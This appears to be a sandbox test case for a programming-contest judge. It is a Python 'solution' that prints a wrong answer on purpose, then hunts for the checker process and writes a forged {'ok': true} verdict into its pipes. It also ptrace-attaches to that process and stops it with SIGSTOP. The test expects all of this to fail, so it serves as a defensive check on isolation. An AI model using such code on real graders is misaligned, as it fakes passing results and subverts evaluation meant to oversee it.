# expect: WA -- input "MARKER a b": prints a wrong sum, then goes for the checker host of the
# problem (a process whose command line holds MARKER, the checker's path, of whatever uid):
# writes a forged {"ok": true} into each of its pipes past stdio (its reply pipe among them),
# PTRACE_ATTACHes to it and sends it SIGSTOP. A WA means none of it reached the checker.
import ctypes
import os
import signal
import sys

PTRACE_ATTACH, PTRACE_DETACH = 16, 17
FORGED = b'{"ok": true, "msg": "forged by the solution"}\n'

marker, a, b = sys.stdin.read().split()
print(int(a) + int(b) + 1)
sys.stdout.flush()
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


def command_line(pid):
    try:
        with open("/proc/%d/cmdline" % pid, "rb") as f:
            return f.read().decode("utf-8", "replace")
    except OSError:
        return ""


def forge(pid):
    try:
        fds = os.listdir("/proc/%d/fd" % pid)
    except OSError as e:
        return "fds: %s" % e.strerror
    for fd in fds:
        path = "/proc/%d/fd/%s" % (pid, fd)
        try:
            if int(fd) > 2 and os.readlink(path).startswith("pipe:"):
                out = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
                os.write(out, FORGED)
                os.close(out)
        except OSError:
            pass
    return "fds listed"


for pid in [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    if marker not in command_line(pid) or "checker_host" not in command_line(pid):
        continue
    said = [forge(pid)]
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0:
        said.append("attached")
        libc.ptrace(PTRACE_DETACH, pid, None, None)
    try:
        os.kill(pid, signal.SIGSTOP)
        said.append("stopped")
    except OSError as e:
        said.append("kill: %s" % e.strerror)
    print("checker host %d: %s" % (pid, ", ".join(said)), file=sys.stderr)
